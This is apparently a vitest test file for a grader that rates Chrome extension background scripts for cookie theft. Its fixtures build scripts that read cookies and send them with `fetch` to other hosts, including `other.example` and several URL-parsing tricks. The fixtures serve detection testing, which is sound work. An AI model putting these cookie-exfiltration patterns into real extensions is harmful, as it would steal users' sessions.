import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/** Cookies of all of an address are read by a helper, which is told that address, and sent to one. */
const sends = (asked: string, address: string, between = ''): string =>
  `async function read(request) { const { host } = /https?:..(?<host>[^/]+)/.exec(request.url).groups; return (await chrome.cookies.getAll({ domain: host })).map((one) => one.value).join(); } async function send(request, other) { const headers = { 'X-Kept': await read(${asked}) }; ${between} return fetch(${address}, { headers }); } chrome.alarms.onAlarm.addListener(() => { for (const one of list) send(one, list[0]); });`;

/** Cookies are asked for by one part of a message and sent to another one. */
const told = (asked: string, address: string, between = ''): string =>
  `chrome.runtime.onMessage.addListener((m) => { let url = m.url; chrome.cookies.getAll(${asked}, (all) => { ${between} fetch(${address}, { method: 'POST', body: JSON.stringify(all) }); }); });`;

/** A helper gives the cookies of an origin back, with that origin beside them. */
const beside = (gives: string, takes: string, between = ''): string =>
  `async function session(m) { let origin = new URL(m.url).origin; const all = await chrome.cookies.getAll({ domain: origin.replace('https://', '') }); const headers = { Authorization: all[0].value }; ${between} return ${gives}; } chrome.runtime.onMessage.addListener(async (m) => { const ${takes} = await session(m); fetch(\`\${host}/me\`, { headers }); });`;

describe('cookies', () => {
  it.each([
    ['[origin, headers]', '[host, headers]'],
    ['{ host: origin, other: m.other, headers }', '{ host, headers }'],
  ])('are less sure to be taken where a helper gives their origin beside them: %s', async (gives, takes) => {
    expect(await graded({ background: beside(gives, takes) })).toMatch(/^[BC]$/);
  });
  it.each([
    ['[m.other, headers]', '[host, headers]', ''],
    ['[origin, headers, m.other]', '[, headers, host]', ''],
    ['{ host: origin, other: m.other, headers }', '{ other: host, headers }', ''],
    ['[origin, headers]', '[host, headers]', 'origin = m.other;'],
    ['m.a ? [origin, headers] : [m.other, headers]', '[host, headers]', ''],
    ['[origin, headers]', '[host, headers]', "if (m.a) return ['https://other.example', headers];"],
  ])('are taken where it gives another: %s, %s, %s', async (gives, takes, between) => {
    expect(await graded({ background: beside(gives, takes, between) })).toBe('F');
  });
  it('are less sure to be taken where they go back to the address that they are asked for', async () => {
    expect(await graded({ background: sends('request', 'request.url') })).toMatch(/^[BC]$/);
    expect(await graded({ background: sends('request', 'request.url + "/list"') })).toMatch(/^[BC]$/);
  });
  it.each([
    ['the host', '{ domain: new URL(m.url).hostname }', '`https://${new URL(m.url).host}/list`'],
    ['a part between slashes', '{ domain: m.url.split("/")[2] }', '"https://" + m.url.split("/")[2] + "/list"'],
  ])('are less sure to be taken where they go back to %s of it', async (_, asked, address) => {
    expect(await graded({ background: told(asked, address) })).toMatch(/^[BC]$/);
  });
  it.each([
    ['a host that only begins so', '{ domain: m.d }', '`https://${m.d}.other.example/`'],
    ['a host behind a name and a password', '{ url: m.url }', 'm.url + "@other.example/"'],
    ['what is told behind it', '{ url: m.url }', 'm.url + m.more'],
    ['a path of a fixed server', '{ domain: m.d }', 'new URL(m.d, "https://other.example/")'],
    ['another part', '{ url: m.both.split("|")[0] }', 'm.both.split("|")[1]'],
    ['the fragment', '{ url: m.url }', 'm.url.split("#")[1]'],
    ['what a query asks for', '{ domain: m.url.split("?")[1] }', 'm.url'],
    ['what any expression finds', '{ domain: /[?](.*)/.exec(m.url)[1] }', 'm.url'],
    ['a property by another name', '{ url: m[m.one] }', 'm[m.other]'],
    ['a property that was written', '{ url: m.url }', 'm.url', 'm.url = self.name;'],
    ['a property that was copied over', '{ url: m.url }', 'm.url', 'Object.assign(m, m.more);'],
    ['a variable that another function changed', '{ url }', 'url', 'change();'],
  ])('are taken where they go to %s', async (_, asked, address, between = '') => {
    const change = 'function change() { url = m.other; }';
    const code = told(asked, address, between).replace(
      'let url = m.url;',
      (text) => `${text} ${between === 'change();' ? change : ''}`,
    );
    expect(await graded({ background: code })).toBe('F');
  });
  it.each([
    ['to another', sends('request', 'other.url')],
    ['to another one of the same', sends('request', 'request.server')],
    ['of another', sends('other', 'request.url')],
    ['to the same name that holds another', sends('request', 'request.url', 'request = other;')],
  ])('are taken where they go %s', async (_, background) => {
    expect(await graded({ background })).toBe('F');
  });
});
